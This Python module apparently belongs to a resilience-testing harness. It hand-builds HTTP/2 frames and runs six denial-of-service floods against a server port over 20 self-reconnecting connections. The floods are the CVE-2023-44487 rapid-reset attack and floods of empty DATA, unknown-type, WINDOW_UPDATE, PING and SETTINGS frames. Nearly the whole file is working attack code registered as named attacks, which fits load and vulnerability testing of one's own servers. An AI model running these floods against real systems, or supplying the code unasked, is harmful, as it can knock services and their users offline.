"""Floods over HTTP/2 with frames as RFC 9113, section 6, defines them, written by hand: no client library sends these."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time

from .attack import Attack
from .clients import connect, reset

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_STREAM, END_HEADERS = 1, 4
# GET / http, in the static table (RFC 7541, appendix A); :authority souk and :path as literals without indexing.
GET = b"\x82\x86\x04\x10/api/v1/products\x01\x04souk"
POST = b"\x83\x86\x04\x12/api/v1/auth/login\x01\x04souk"
CONNECTIONS = 20


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def streams(start: int, count: int) -> range:
    return range(start, start + 2 * count, 2)


def rapid_reset(start: int) -> bytes:
    """CVE-2023-44487."""
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, s, GET) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
        for s in streams(start, 100))


def empty_data(start: int) -> bytes:
    opening = frame(HEADERS, END_HEADERS, 1, POST) if start == 1 else b""
    return opening + frame(DATA, 0, 1) * 1_000


def unknown_frames(_start: int) -> bytes:
    return frame(0xFA, 0, 0, b"x" * 16) * 1_000


def window_updates(_start: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1_000


def pings(_start: int) -> bytes:
    return frame(PING, 0, 0, b"12345678") * 1_000


def settings(_start: int) -> bytes:
    return frame(SETTINGS, 0, 0) * 1_000


def flood(burst):
    """Sends bursts on some connections as fast as they are taken, and opens a new one where one is ended."""
    async def run(port: int, _prepared, end: float) -> str:
        sent = opened = ended = 0

        async def one() -> None:
            nonlocal sent, opened, ended
            while time.monotonic() < end:
                writer = None
                try:
                    reader, writer = await connect(port)
                    opened += 1
                    writer.write(PREFACE + frame(SETTINGS, 0, 0))
                    drain = asyncio.ensure_future(discard(reader))
                    start = 1
                    while time.monotonic() < end and not drain.done():
                        writer.write(burst(start))
                        sent += 1
                        start += 200
                        await asyncio.wait_for(writer.drain(), max(0.01, end - time.monotonic()))
                        await asyncio.sleep(0)
                    drain.cancel()
                    ended += time.monotonic() < end
                except TimeoutError:
                    return
                except OSError:
                    ended += 1
                    await asyncio.sleep(0.01)
                finally:
                    if writer:
                        reset(writer)

        await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
        return f"{sent} bursts on {opened} connections, {ended} of them ended"

    return run


async def discard(reader: asyncio.StreamReader) -> None:
    """Until the server closes, however it does."""
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


HTTP2 = [
    Attack("h2-rapid-reset", "Requests that are reset at once (CVE-2023-44487).", flood(rapid_reset)),
    Attack("h2-empty-data", "DATA frames without data.", flood(empty_data)),
    Attack("h2-unknown", "Frames of a type that does not exist.", flood(unknown_frames)),
    Attack("h2-window", "WINDOW_UPDATE frames of one byte.", flood(window_updates)),
    Attack("h2-ping", "PING frames.", flood(pings)),
    Attack("h2-settings", "Empty SETTINGS frames.", flood(settings)),
]
